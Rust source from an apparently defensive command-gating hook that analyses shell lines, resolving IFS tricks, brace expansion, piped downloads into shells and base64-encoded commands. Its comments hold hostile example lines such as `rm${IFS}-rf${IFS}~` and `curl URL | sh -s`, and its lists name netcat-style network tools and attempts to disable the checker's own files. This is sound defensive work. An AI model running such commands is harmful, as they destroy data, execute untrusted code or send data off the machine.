    // `rm${IFS}-rf${IFS}~`: an `IFS` the line does not set splits at a space.
    if last_value(vars, "IFS").is_none() && (word.contains("$IFS") || word.contains("${IFS}")) {
        let spaced = default_ifs(word);
        if !spaced.contains(['$', '`']) {
            return Some(Some(spaced));
        }
    }
    let expands = word.contains(['$', '`']);
    let braced = word.contains('{') && word.contains('}') && places::braces(word).len() > 1;
    let globbed = |w: &str| w.contains(['*', '?']) || (w.contains('[') && w.contains(']'));
    if !expands && !braced && !globbed(word) {
        return None;
    }
    // A program whose own name is written plainly, in a directory the shell computes
    // (`$HOME/.cargo/bin/cargo`, `"$VENV/bin/python"`), is that program.
    let name = word.rsplit('/').next().unwrap_or(word);
    if word.contains('/')
        && !name.is_empty()
        && !name.contains(['$', '`', '{', '}', '*', '?', '[', ']', '(', ')'])
    {
        return None;
    }
    let mut text = word.to_string();
    if expands {
        let plain = plain_expansions(word);
        let value = plain
            .then(|| substitute(word, vars))
            .flatten()
            .filter(|p| !p.contains(['$', '`']))
            .or_else(|| located_program(commands, i));
        let Some(value) = value else {
            return Some(None);
        };
        text = match last_value(vars, "IFS") {
            // `IFS` the line computes: how the word splits is not known.
            Some(ifs) if ifs.contains(['$', '`']) => return Some(None),
            Some(ifs) if !ifs.is_empty() => value
                .chars()
                .map(|c| if ifs.contains(c) { ' ' } else { c })
                .collect(),
            _ => value,
        };
    }
    if globbed(&text) {
        return Some(None);
    }
    if text.contains('{') {
        let words = places::braces(&text);
        if words.len() > 1 {
            let words: Vec<&str> = words.iter().map(String::as_str).collect();
            text = crate::shell::quote_argv(&words);
        }
    }
    Some(Some(text))
}

/// `$IFS` and `${IFS}` replaced by a space (the default `IFS` splits there); `$IFSX` is
/// another variable and stays.
fn default_ifs(word: &str) -> String {
    let mut out = String::with_capacity(word.len());
    let mut rest = word;
    while let Some(k) = rest.find('$') {
        out.push_str(&rest[..k]);
        let tail = &rest[k..];
        if let Some(after) = tail.strip_prefix("${IFS}") {
            out.push(' ');
            rest = after;
        } else if let Some(after) = tail
            .strip_prefix("$IFS")
            .filter(|a| !a.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_'))
        {
            out.push(' ');
            rest = after;
        } else {
            out.push('$');
            rest = &tail[1..];
        }
    }
    out.push_str(rest);
    out
}

/// Whether every expansion in a word is a plain one whose value is the variable's own
/// (`$x`, `${x}`, `${x:-d}`, `${x:?m}`), not an operation on it (`${x//a/b}`, `${x:1}`,
/// `${#x}`, `${!x}`, `${x^^}`).
fn plain_expansions(word: &str) -> bool {
    let mut rest = word;
    while let Some(at) = rest.find("${") {
        let body = &rest[at + 2..];
        let Some(end) = body.find('}') else {
            return false;
        };
        let body = &body[..end];
        let name = body
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(body.len());
        let op = &body[name..];
        if name == 0
            || !(op.is_empty()
                || [":-", ":?", ":=", "-", "?", "="]
                    .iter()
                    .any(|o| op.starts_with(o)))
        {
            return false;
        }
        rest = &rest[at + 2 + end..];
    }
    true
}

/// The last value the line gave variable `name`.
fn last_value<'v>(vars: &'v [(String, String)], name: &str) -> Option<&'v str> {
    vars.iter()
        .rev()
        .find(|(n, _)| n == name)
        .map(|(_, v)| v.as_str())
}

/// Longest variable value followed (longer ones stay unresolved).
const MAX_VALUE: usize = 4096;

/// `word` with the line's known variables substituted (`$D`, `${D}`, `${D:?msg}`,
/// `${D:-x}`), or `None` when it names none of them. Unknown variables stay as written.
fn substitute(word: &str, vars: &[(String, String)]) -> Option<String> {
    let mut out = String::with_capacity(word.len());
    let mut changed = false;
    let mut rest = word;
    while let Some(at) = rest.find('$') {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        let (name, used) = if let Some(inner) = after.strip_prefix('{') {
            match inner.find('}') {
                Some(end) => {
                    let body = &inner[..end];
                    let n = body
                        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                        .unwrap_or(body.len());
                    (&body[..n], end + 2)
                }
                None => ("", 0),
            }
        } else {
            let n = after
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .unwrap_or(after.len());
            (&after[..n], n)
        };
        match vars
            .iter()
            .rev()
            .find(|(n, _)| n == name)
            .filter(|_| !name.is_empty())
        {
            Some((_, value)) if out.len() + value.len() <= MAX_VALUE => {
                out.push_str(value);
                changed = true;
                rest = &after[used..];
            }
            _ => {
                out.push('$');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    changed.then_some(out)
}

fn is_path_act(a: Act) -> bool {
    matches!(
        a,
        Act::Read
            | Act::Write
            | Act::Overwrite
            | Act::Delete
            | Act::Move
            | Act::Permissions
            | Act::Link
    )
}

/// Whether every substitution made for command `i` prints the running user's name or id
/// (`id -u`, `id -gn`, `whoami`), or there is none.
fn substitutions_name_user(commands: &[SimpleCommand<'_>], i: usize) -> bool {
    commands[..i]
        .iter()
        .rev()
        .take_while(|c| in_substitution(c))
        .all(|c| {
            c.program == "whoami"
                || c.program == "id"
                    && c.args.iter().all(|a| {
                        a.len() <= 4
                            && a.starts_with('-')
                            && a[1..].bytes().all(|b| matches!(b, b'u' | b'g' | b'n'))
                    })
        })
}

pub(super) fn in_substitution(cmd: &SimpleCommand<'_>) -> bool {
    cmd.wrappers
        .iter()
        .any(|w| w == "$()" || w == "`" || w == "``" || w.starts_with("<(") || w.starts_with(">("))
}

/// Whether a command runs code it reads on standard input.
fn runs_stdin(cmd: &SimpleCommand<'_>) -> bool {
    let p: &str = &cmd.program;
    let base = p.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    if !STDIN_RUNNERS.contains(&p) && !STDIN_RUNNERS.contains(&base) {
        return false;
    }
    // `python script.py` runs the script, not stdin; `python -` and `python` read stdin. A
    // shell given `-s` reads its code on stdin whatever operands follow: they are its
    // positional parameters (`curl URL | sh -s -- -b ~/bin v1.2`).
    let shell = programs::is_shell(p) || programs::is_shell(base);
    let mut given_s = false;
    let mut args = cmd.args.iter();
    while let Some(a) = args.next() {
        if a == "--" {
            return given_s || args.next().is_none_or(|f| names_stdin(f));
        }
        if a.len() > 1 && a.starts_with('-') {
            given_s |= shell && !a.starts_with("--") && a.contains('s') && !a.contains('c');
            continue;
        }
        return given_s || names_stdin(a);
    }
    true
}

/// Whether a word a runner is given as the file to run is its standard input.
fn names_stdin(word: &str) -> bool {
    word == "-" || word.starts_with("/dev/stdin") || word.starts_with("<(")
}

/// The home and working directory a remote command is read in: a home of its own (so `~`
/// and `/` there are still the home and the root), no project and none of gate's files.
const REMOTE_HOME: &str = "/home/~remote";

fn remote_where() -> Where {
    Where {
        cwd: REMOTE_HOME.to_string(),
        project: String::new(),
        home: REMOTE_HOME.to_string(),
        gate: Vec::new(),
        disk: false,
    }
}

/// Where a container's command is read: a machine of its own (as [`remote_where`]), whose
/// working directory is the image's, which this machine cannot know: `.` there is no home
/// (`docker compose run app chown -R 1000 .` is the image's directory, often a mounted
/// project, not the container user's home).
fn container_where() -> Where {
    Where {
        cwd: "$WORKDIR".to_string(),
        ..remote_where()
    }
}

/// A place on another machine as this one's rules see it: the root, home, system, devices,
/// secrets and version control keep their class; everything else there (its files, its
/// temporary files are still temporary) is unknown to this machine, never this project's
/// source or gate's own files.
fn remote_place(p: Place) -> Place {
    match p {
        Place::Source | Place::Outputs | Place::Project | Place::Outside | Place::Gate => {
            Place::Unknown
        }
        other => other,
    }
}

/// PowerShell aliases that are also the names of POSIX programs (`ri` is Ruby's
/// documentation browser, `sc` a spreadsheet, `ni` a package runner): PowerShell only with
/// PowerShell's arguments.
const SHARED_ALIASES: &[&str] = &["ri", "sc", "ni"];

/// Whether a command is PowerShell: a name that exists only there, or a name it shares with
/// a POSIX program given PowerShell's arguments (`ri -Recurse -Force build`, `ri C:\tmp`),
/// not `ri -l` or `sc file.sc`.
fn is_powershell_command(cmd: &SimpleCommand<'_>) -> bool {
    let program = cmd.program.to_ascii_lowercase();
    if !SHARED_ALIASES.contains(&program.as_str()) {
        return is_powershell_name(&cmd.program);
    }
    cmd.args.iter().any(|a| {
        let parameter = a.strip_prefix('-').is_some_and(|p| {
            p.len() > 1
                && p.starts_with(|c: char| c.is_ascii_uppercase())
                && p.chars().all(|c| c.is_ascii_alphabetic())
        });
        parameter || a.contains('\\') || a.starts_with("$env:")
    })
}

/// Whether a word is PowerShell's current pipeline item (`$_`, `$PSItem`).
fn is_pipeline_item(word: &str) -> bool {
    word == "$_" || word.eq_ignore_ascii_case("$psitem")
}

/// Whether `program` exists only in PowerShell: a cmdlet (`Verb-Noun` with one of the verbs
/// that change things, run code or feed a pipe) or an alias no POSIX system ships.
fn is_powershell_name(program: &str) -> bool {
    const ALIASES: &[&str] = &["iex", "iwr", "irm", "rni", "saps"];
    const VERBS: &[&str] = &[
        "invoke",
        "remove",
        "set",
        "new",
        "start",
        "stop",
        "clear",
        "format",
        "copy",
        "move",
        "out",
        "add",
        "rename",
        "restart",
        "disable",
        "enable",
        "uninstall",
        "install",
        // What feeds a removal down a pipe: `Get-ChildItem … | ForEach-Object { Remove-Item
        // $_.FullName }` holds the removal only in the block.
        "get",
        "foreach",
        "where",
    ];
    let p = program.to_ascii_lowercase();
    if ALIASES.contains(&p.as_str()) {
        return true;
    }
    match p.split_once('-') {
        Some((verb, noun)) => {
            VERBS.contains(&verb)
                && !noun.is_empty()
                && noun.chars().all(|c| c.is_ascii_alphabetic())
                && program
                    .chars()
                    .next()
                    .is_some_and(|c| c.is_ascii_uppercase())
        }
        None => false,
    }
}

/// In a live hook call, the input files a command reads as code or data, read (by `read`)
/// as if they were on the line: its `< FILE`, `patch -i FILE`, and `git apply FILE…` (whose
/// operands then become `-`).
fn inline_inputs(
    program: &str,
    args: &mut Vec<Cow<'_, str>>,
    stdin: &mut Option<String>,
    stdin_file: Option<&str>,
    read: impl Fn(&str) -> Option<String>,
) {
    if stdin.is_none() {
        if let Some(f) = stdin_file {
            *stdin = read(f);
        }
    }
    match program {
        "patch" => {
            let mut k = 0;
            while k < args.len() {
                let a = &args[k];
                let (file, width) = if a == "-i" || a == "--input" {
                    (args.get(k + 1).map(|f| f.to_string()), 2)
                } else if let Some(f) = a.strip_prefix("--input=") {
                    (Some(f.to_string()), 1)
                } else if let Some(f) = a.strip_prefix("-i").filter(|f| !f.is_empty()) {
                    (Some(f.to_string()), 1)
                } else {
                    k += 1;
                    continue;
                };
                if let Some(text) = file.as_deref().and_then(&read) {
                    *stdin = Some(text);
                    args.drain(k..(k + width).min(args.len()));
                } else {
                    k += width;
                }
            }
        }
        "git" => {
            // Past git's global options (`git -C dir -c k=v apply p`), `-C` kept: the patch
            // is read where git reads it.
            let mut dir: Option<String> = None;
            let mut k = 0;
            while let Some(a) = args.get(k) {
                match &**a {
                    "-C" => {
                        if let Some(d) = args.get(k + 1) {
                            dir = Some(match dir.take() {
                                Some(prev) if !d.starts_with('/') => format!("{prev}/{d}"),
                                _ => d.to_string(),
                            });
                        }
                        k += 2;
                    }
                    "-c" | "--git-dir" | "--work-tree" | "--namespace" | "--config-env" => k += 2,
                    a if a.starts_with('-') => k += 1,
                    _ => break,
                }
            }
            if args.get(k).is_none_or(|a| a != "apply") {
                return;
            }
            let at = k;
            let mut text = String::new();
            for a in args.iter_mut().skip(at + 1) {
                if a.starts_with('-') {
                    continue;
                }
                let path = match &dir {
                    Some(d) if !a.starts_with('/') => format!("{}/{a}", d.trim_end_matches('/')),
                    _ => a.to_string(),
                };
                if let Some(t) = read(&path) {
                    text.push_str(&t);
                    text.push('\n');
                    *a = Cow::Borrowed("-");
                }
            }
            if !text.is_empty() {
                *stdin = Some(text);
            }
        }
        _ => {}
    }
}

/// Operands as the shell hands them over: a path-like word with braces becomes its words
/// (`mv .claude{,.off}` is `mv .claude .claude.off`), and a lookup substitution
/// (`"$(which gate)"`, `` `command -v gate` ``) becomes the path it finds when that is one of
/// gate's own files (or, in a live hook call, the program on `PATH`).
fn expand_operands<'a>(
    args: &mut Vec<Cow<'a, str>>,
    commands: &[SimpleCommand<'_>],
    i: usize,
    at: &Where,
) {
    let braced = |a: &str| {
        a.contains('{')
            && a.contains('}')
            && (a.contains(',') || a.contains(".."))
            && !a.contains(char::is_whitespace)
            && !a.contains('$')
    };
    if args.iter().any(|a| braced(a)) {
        let mut out: Vec<Cow<'a, str>> = Vec::with_capacity(args.len() + 2);
        for a in args.drain(..) {
            if braced(&a) {
                out.extend(places::braces(&a).into_iter().map(Cow::Owned));
            } else {
                out.push(a);
            }
        }
        *args = out;
    }
    let looked_up = |a: &str| a == "$(…)" || (a.starts_with('`') && a.ends_with('`'));
    if !args.iter().any(|a| a.contains("$(…)") || looked_up(a)) {
        return;
    }
    // A substitution that lists every item of its kind (`$(docker ps -aq)`), or a table of
    // them whose rows are only cut to a column (`` `docker ps -a | tail -n +2 | awk '{print
    // $1}'` ``).
    let made: Vec<&SimpleCommand<'_>> = commands[..i]
        .iter()
        .rev()
        .take_while(|c| in_substitution(c))
        .collect();
    let listing = made
        .iter()
        .any(|c| programs::lists_every(&c.program, &c.args))
        || made
            .last()
            .is_some_and(|c| programs::lists_every_row(&c.program, &c.args))
            && made[..made.len() - 1]
                .iter()
                .all(|c| flow::projects_rows(c));
    if listing {
        for a in args.iter_mut().filter(|a| looked_up(a)) {
            *a = Cow::Borrowed(super::EVERY_LISTED);
        }
        return;
    }
    let Some(name) = located_program(commands, i) else {
        return;
    };
    // The last of gate's locations so named: its executable, listed after its directories.
    let found = at
        .gate
        .iter()
        .rfind(|g| g.rsplit('/').next() == Some(name.as_str()))
        .cloned()
        .or_else(|| at.disk.then(|| on_path(&name)).flatten());
    if let Some(path) = found {
        for a in args.iter_mut() {
            if looked_up(a) {
                *a = Cow::Owned(path.clone());
            } else if a.contains("$(…)") {
                // Inside a word (`if="$(which gate)"`, `--file=$(command -v gate)`).
                *a = Cow::Owned(a.replacen("$(…)", &path, 1));
            }
        }
    }
}

/// Where `PATH` finds the program `name` (a live hook call only).
fn on_path(name: &str) -> Option<String> {
    let path = std::env::var_os("PATH")?;
    std::env::split_paths(&path)
        .map(|d| d.join(name))
        .find(|p| p.is_file())
        .and_then(|p| p.to_str().map(str::to_string))
}

/// The text a command prints when the line shows it: `echo`'s and `printf`'s words, or what
/// `cat` copies from a here-document or here-string.
/// `bash <(echo CODE)`, `. <(printf …)`: a shell given, as its script, a process
/// substitution whose output the line shows runs that output; read as standard input
/// (`/dev/stdin`), which the shell's model runs. The substitution's command is the one
/// before this command that the parser marks as such.
fn process_substituted_script(
    args: &mut [Cow<'_, str>],
    stdin: &mut Option<String>,
    commands: &[SimpleCommand<'_>],
    i: usize,
) {
    let Some(at) = args.iter().position(|a| a == "<(…)") else {
        return;
    };
    if args[..at].iter().any(|a| !a.starts_with('-')) {
        // An argument of the script, not the script.
        return;
    }
    let Some(producer) = commands[..i]
        .iter()
        .rev()
        .take_while(|c| c.wrappers.iter().any(|w| w == "<()"))
        .last()
    else {
        return;
    };
    if let Some(text) = printed(producer, producer.stdin.as_deref()) {
        *stdin = Some(text);
        args[at] = Cow::Borrowed("/dev/stdin");
    }
}

pub(super) fn printed(cmd: &SimpleCommand<'_>, stdin: Option<&str>) -> Option<String> {
    let words: Vec<&str> = cmd.args.iter().map(|a| &**a).collect();
    match &*cmd.program {
        "echo" => Some(
            words
                .iter()
                .filter(|w| !(w.starts_with('-') && w.len() <= 3))
                .copied()
                .collect::<Vec<_>>()
                .join(" "),
        )
        .map(|t| unescape(&t)),
        "printf" => words.first().map(|f| unescape(f)),
        "cat" if words.is_empty() => stdin.map(str::to_string),
        _ => None,
    }
}

/// Most downloaded files remembered in one line.
const MAX_FETCHED: usize = 16;

/// Which of the files in `files`, if any, `cmd` runs (resolved paths; `spot` resolves a word
/// the same way): as the program itself (`./a.sh`), or as the script a shell or interpreter
/// is given (`bash a.sh`, `python3 /tmp/x.py`, `. ./env.sh`).
fn runs_one_of(
    cmd: &SimpleCommand<'_>,
    args: &[Cow<'_, str>],
    files: &[String],
    spot: impl Fn(&str) -> String,
) -> Option<usize> {
    let which = |w: &str| {
        let at = spot(w);
        files.iter().position(|f| *f == at)
    };
    if cmd.program_path.contains('/') {
        if let Some(i) = which(&cmd.program_path) {
            return Some(i);
        }
    }
    // `sh < a.sh`.
    if runs_stdin(cmd) {
        if let Some(i) = cmd
            .writes
            .iter()
            .filter(|w| w.op == "<")
            .find_map(|w| which(&w.target))
        {
            return Some(i);
        }
    }
    if !runs_code(cmd) {
        return None;
    }
    // The first operand is the script (`bash -x a.sh`, `sh -- a.sh`); an option's value
    // that happens to be a downloaded file is read, not run.
    args.iter()
        .map(|a| &**a)
        .find(|a| !a.starts_with('-'))
        .and_then(which)
}

/// Whether a command runs code given to it as an argument or on stdin (a shell, an
/// interpreter, `eval`, `source`).
fn runs_code(cmd: &SimpleCommand<'_>) -> bool {
    let p: &str = &cmd.program;
    let base = p.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    STDIN_RUNNERS.contains(&p) || STDIN_RUNNERS.contains(&base)
}

/// The ends of the paths of git's configuration files: a repository's own (`/.git/config`)
/// and the user's (in the home).
const GIT_CONFIG_FILES: &[&str] = &["/.git/config", "/.gitconfig", "/.config/git/config"];

/// Programs that pass their input on (`curl … | tee a.sh | bash`).
const PASS_THROUGH: &[&str] = &[
    "tee", "cat", "head", "tail", "dd", "sed", "tr", "gunzip", "zcat", "gzip", "base64", "xxd",
    "sort", "uniq", "iconv", "dos2unix", "pv", "stdbuf",
];

/// Whether command `i`'s output reaches, through pipes and pass-through filters, a program
/// that runs what it reads (bounded by the number of commands).
fn piped_into_runner(parsed: &Parsed<'_>, i: usize) -> bool {
    pipes_reach(parsed, i, runs_stdin)
}

/// Whether command `i`'s output reaches, directly or through pass-through filters, a command
/// for which `target` holds (each command visited once).
fn pipes_reach(parsed: &Parsed<'_>, i: usize, target: impl Fn(&SimpleCommand<'_>) -> bool) -> bool {
    let mut frontier = vec![i];
    let mut seen = vec![false; parsed.commands.len()];
    while let Some(k) = frontier.pop() {
        for &(a, b) in &parsed.pipes {
            if a != k || seen.get(b).copied().unwrap_or(true) {
                continue;
            }
            seen[b] = true;
            let next = &parsed.commands[b];
            if target(next) {
                return true;
            }
            if PASS_THROUGH.contains(&&*next.program) {
                frontier.push(b);
            }
        }
    }
    false
}

/// Programs that carry a byte stream to another machine.
const NETWORK_PIPES: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.openbsd",
    "nc.traditional",
    "socat",
    "telnet",
    "openssl",
    "cryptcat",
    "websocat",
];

/// Whether command `i`'s output is piped (directly or through pass-through filters) into a
/// program that carries it to the network.
fn pipes_to_network(parsed: &Parsed<'_>, i: usize) -> bool {
    pipes_reach(parsed, i, |c| NETWORK_PIPES.contains(&&*c.program))
}

/// Whether a command may run the text of a substitution as code: a shell or interpreter, a
/// computed program (`$(curl …)` as the command word), or code under a peeled `sh -c`,
/// `eval` or `env -S`.
fn runs_substituted_code(cmd: &SimpleCommand<'_>) -> bool {
    runs_code(cmd)
        || cmd.program.starts_with('$')
        || cmd.program.starts_with('`')
        || cmd
            .wrappers
            .iter()
            .any(|w| w.ends_with(" -c") || w == "eval" || w == "env -S")
}

/// What a command reads on standard input, when the line spells it: a here-string or
/// here-document, or the words of an `echo`/`printf` piped into it.
fn stdin_text(parsed: &Parsed<'_>, i: usize) -> Option<String> {
    let cmd = &parsed.commands[i];
    if let Some(s) = &cmd.stdin {
        return Some(s.to_string());
    }
    let mut text = String::new();
    for (a, b) in &parsed.pipes {
        if *b != i {
            continue;
        }
        let p = &parsed.commands[*a];
        match &*p.program {
            "printf" => {
                // `printf '%s\n' a b` prints its arguments a line each; `printf '1d\nw\n'`
                // its format with the escapes made real.
                let words: Vec<&str> = p.args.iter().map(|w| &**w).collect();
                match words.split_first() {
                    Some((format, rest)) if format.contains("%s") && !rest.is_empty() => {
                        for w in rest {
                            text.push_str(&unescape(w));
                            text.push('\n');
                        }
                    }
                    Some((format, _)) => text.push_str(&unescape(format)),
                    None => {}
                }
            }
            "echo" => {
                for w in p
                    .args
                    .iter()
                    .filter(|w| !(w.starts_with('-') && w.len() <= 3))
                {
                    text.push_str(&unescape(w));
                    text.push('\n');
                }
            }
            "cat" if p.args.is_empty() => {
                if let Some(s) = &p.stdin {
                    text.push_str(s);
                }
            }
            // `echo cm0g… | base64 -d`: what it decodes.
            _ => {
                if let Some(decoded) = decoded_output(parsed, *a) {
                    text.push_str(&decoded);
                }
            }
        }
    }
    (!text.is_empty()).then_some(text)
}

/// What command `i` prints when it decodes text the line shows (`echo cm0g… | base64 -d`,
/// `xxd -r -p <<< 726d…`, `rev <<< '~ fr- mr'`): see [`super::decode`].
fn decoded_output(parsed: &Parsed<'_>, i: usize) -> Option<String> {
    let p = &parsed.commands[i];
    if !super::decode::is_decoder(&p.program) {
        return None;
    }
    let encoded = stdin_text(parsed, i)?;
    super::decode::decode(&p.program, &p.args, &encoded)
}

/// The escapes `printf` and `echo -e` make real (`\n`, `\t`, `\xHH`, octal).
fn unescape(w: &str) -> String {
    super::decode::unescape(w)
}

/// The arguments of command `i`, with `find -exec`'s `{}` replaced by the roots of the
/// `find` it runs under.
fn bound_args<'a>(parsed: &Parsed<'a>, i: usize, cmd: &SimpleCommand<'a>) -> Vec<Cow<'a, str>> {
    if !cmd.wrappers.iter().any(|w| w == "find -exec") {
        return cmd.args.clone();
    }
    let roots = parsed.commands[..i]
        .iter()
        .rev()
        .find(|c| c.program == "find")
        .map(|f| find_matches(&f.args))
        .unwrap_or_default();
    let mut out = Vec::new();
    for a in &cmd.args {
        if a.contains("{}") {
            if roots.is_empty() {
                out.push(Cow::Owned(a.replace("{}", ".")));
            }
            for r in &roots {
                out.push(Cow::Owned(a.replace("{}", r)));
            }
        } else {
            out.push(a.clone());
        }
    }
    out
}

/// What a `find` runs its `-exec` command on: its roots, or what a bounded selection picks
/// out below them (`find . -name '*.tmp'` names temp files, not the project).
fn find_matches(args: &[Cow<'_, str>]) -> Vec<String> {
    programs::find_targets(args, programs::FindAction::Exec)
}

/// The paths a producer of an `xargs` pipeline names: `find`'s roots, `ls`' directories,
/// `echo`'s words, the project for `git ls-files`/`fd`/`rg --files`; empty when unknown.
fn producer_paths(p: &SimpleCommand<'_>) -> Vec<String> {
    match &*p.program {
        "find" => programs::find_targets(&p.args, programs::FindAction::Print),
        "ls" | "fd" | "fdfind" | "tree" => {
            let ops: Vec<String> = p
                .args
                .iter()
                .filter(|a| !a.starts_with('-'))
                .map(|a| format!("{a}/*"))
                .collect();
            if ops.is_empty() && p.program != "fd" {
                vec!["*".to_string()]
            } else if ops.is_empty() {
                vec![".".to_string()]
            } else {
                ops
            }
        }
        "echo" | "printf" => p
            .args
            .iter()
            .filter(|a| !a.starts_with('-'))
            .map(|a| a.to_string())
            .collect(),
        "git" if p.args.iter().any(|a| a == "ls-files") => vec![".".to_string()],
        program if programs::lists_every(program, &p.args) => vec![super::EVERY_LISTED.to_string()],
        "rg" | "grep"
            if p.args
                .iter()
                .any(|a| a == "-l" || a == "--files" || a == "-rl" || a == "-lr") =>
        {
            vec![".".to_string()]
        }
        _ => Vec::new(),
    }
}

/// Resolve a sink's raw effects against the line's working directory.
fn flush(sink: &Sink, cwd: &str, oldpwd: Option<&str>, at: &Where, out: &mut Vec<Effect>) {
    let start = out.len();
    for (i, (act, target)) in sink.raw.iter().enumerate() {
        let from = out.len();
        flush_one(sink, *act, target, cwd, oldpwd, at, out);
        if let Some((_, source)) = sink.sources.iter().find(|(k, _)| *k == i) {
            super::provenance::note(&out[from..], source);
        }
    }
    if at.disk && !cwd.starts_with('$') {
        for (act, dir, reach) in &sink.trees {
            if super::contents::never_there(reach, cwd, at, &out[..start]) {
                continue;
            }
            for word in places::braces(dir) {
                let resolved = places::resolve(&word, cwd, &at.home, oldpwd).display();
                super::contents::within(*act, &resolved, reach, at, cwd, out);
            }
        }
    }
}

/// Resolve one raw effect of `sink` into `out`.
fn flush_one(
    sink: &Sink,
    act: Act,
    target: &RawTarget,
    cwd: &str,
    oldpwd: Option<&str>,
    at: &Where,
    out: &mut Vec<Effect>,
) {
    match target {
        RawTarget::Place(place) => out.push(Effect {
            act,
            place: *place,
            target: String::new(),
        }),
        RawTarget::Named(place, name) => out.push(Effect {
            act,
            place: *place,
            target: name.clone(),
        }),
        RawTarget::Program(text) => {
            let (place, resolved) = places::place_in(text, cwd, oldpwd, at);
            let unread =
                || !at.disk || super::disk::read_text(&resolved, super::runs::MAX_SCRIPT).is_err();
            if super::code_options::foreign(place, false) && unread() {
                out.push(Effect {
                    act,
                    place,
                    target: resolved,
                });
            }
        }
        RawTarget::Loads(text) => {
            let (place, resolved) = places::place_in(text, cwd, oldpwd, at);
            if super::code_options::foreign(place, false) {
                out.push(Effect {
                    act,
                    place,
                    target: resolved,
                });
            }
        }
        RawTarget::Mention(text) => {
            // A string in code the model cannot follow that names a path: only gate's own
            // files count, and only when no effect of the command already names the path.
            let understood = sink
                .raw
                .iter()
                .any(|(_, t)| matches!(t, RawTarget::Path(p) if p == text));
            let (place, resolved) = places::place_in(text, cwd, oldpwd, at);
            if place == Place::Gate && !understood {
                out.push(Effect {
                    act,
                    place,
                    target: resolved,
                });
            }
        }
        RawTarget::Path(text) => {
            for word in places::braces(text) {
                // After a `cd` that could not be resolved, relative words are unknown.
                let (place, resolved) = places::place_in(&word, cwd, oldpwd, at);
                let Some(act) = act_at(sink, act, place, &resolved, at) else {
                    continue;
                };
                // Removing or moving a directory acts on everything in it (a tree the
                // model names says what it reaches itself).
                let whole = matches!(act, Act::Delete | Act::Move)
                    && at.disk
                    && !sink.trees.iter().any(|(a, p, _)| *a == act && p == text);
                out.push(Effect {
                    act,
                    place,
                    target: resolved.clone(),
                });
                if act == Act::Read {
                    super::key_reads::push(&resolved, !sink.names_only, at, out);
                }
                // `rm -rf link/`: a trailing slash follows the link, and what it reaches is
                // removed (its entries; the link and the directory stay).
                if whole && word.ends_with('/') {
                    if let Some(real) = super::disk::real_path(&resolved) {
                        let (place, real) = places::place_of(&real, "/", None, at);
                        if place != Place::Nowhere {
                            out.push(Effect {
                                act,
                                place,
                                target: real.clone(),
                            });
                            super::contents::within(act, &real, &super::Reach::All, at, cwd, out);
                        }
                    }
                }
                if whole {
                    super::contents::within(act, &resolved, &super::Reach::All, at, cwd, out);
                }
            }
        }
    }
}

/// The act a path effect of `sink` has at the place its target resolved to, or `None` when
/// at that place it is no effect worth a rule. The command's flags (what mode or owner it
/// sets, whether it keeps a copy) and the place together decide: credentials made private
/// are what they should be; a service definition installed, a public mode on local
/// software, one's own dotfiles given back are administration; a system file rewritten in
/// place with no copy kept is overwritten; one named file written under a directory a value
/// decides is only written.
fn act_at(sink: &Sink, act: Act, place: Place, resolved: &str, at: &Where) -> Option<Act> {
    // `/dev/null` and the like.
    if place == Place::Nowhere && act != Act::Read {
        return None;
    }
    // A private mode on credentials or on one's own dotfiles keeps the owner's access and
    // gives nobody else any (`chmod 600 ~/.config/app.yml`): what they should have.
    if act == Act::Permissions
        && matches!(place, Place::Secrets | Place::Dotfiles)
        && (sink.owner_only
            || (place == Place::Secrets
                && sink.shares_read_only
                && super::secrets::is_public(resolved)))
    {
        return None;
    }
    // A project's credentials given to the system's owner (`sudo chown root:root
    // certs/client.key`, as a service's keys are installed): root reads every file already,
    // so nobody gains access; the user's own keys elsewhere stay theirs.
    if act == Act::Permissions
        && place == Place::Secrets
        && sink.to_system_owner
        && places::below(resolved, &at.project)
        && !places::below(&at.home, &at.project)
        && at.home.trim_end_matches('/') != at.project.trim_end_matches('/')
    {
        return None;
    }
    if act == Act::Permissions && sink.owner_gains_only && place != Place::Gate {
        return None;
    }
    // Host keys added to the list of known hosts (`ssh-keyscan h >> ~/.ssh/known_hosts`):
    // what ssh itself does on a first connection. Replacing the list is still an overwrite.
    if act == Act::Write && place == Place::Secrets && super::secrets::is_host_list(resolved) {
        return None;
    }
    // A service definition given the owner and mode its manager expects is installed, as it
    // would be by `install -m 644 -o root`; a public mode on locally installed software or
    // served content, and one's own dotfiles given back to oneself, are undone as they were
    // done.
    let installs_service = place == Place::System
        && (sink.shares_read_only || sink.to_system_owner)
        && super::later::is_service_definition(resolved);
    let administers = match place {
        Place::Project => sink.admin_in_project,
        Place::System => sink.public_mode && places::is_local_software(resolved),
        Place::Dotfiles => sink.to_self_owner,
        _ => false,
    };
    Some(match act {
        Act::Permissions if administers || installs_service => Act::Admin,
        // A system file rewritten in place with no copy kept (`sed -i 's/a/b/' /etc/x.conf`)
        // loses its old text, as replacing it would.
        Act::Write if sink.rewrites_in_place && place == Place::System => Act::Overwrite,
        // An overwrite of one named file in a directory a value the line does not show
        // decides (`> "$dir/_rg"`, `cp x "$OUT"/`) is bounded by its name: a file written
        // there, not anything replaced anywhere.
        Act::Overwrite if place == Place::Unknown && places::names_one_file(resolved) => Act::Write,
        act => act,
    })
}

fn dedup(out: &mut Vec<Effect>) {
    let mut seen = std::collections::BTreeSet::new();
    out.retain(|e| seen.insert((e.act, e.place, e.target.clone())));
}
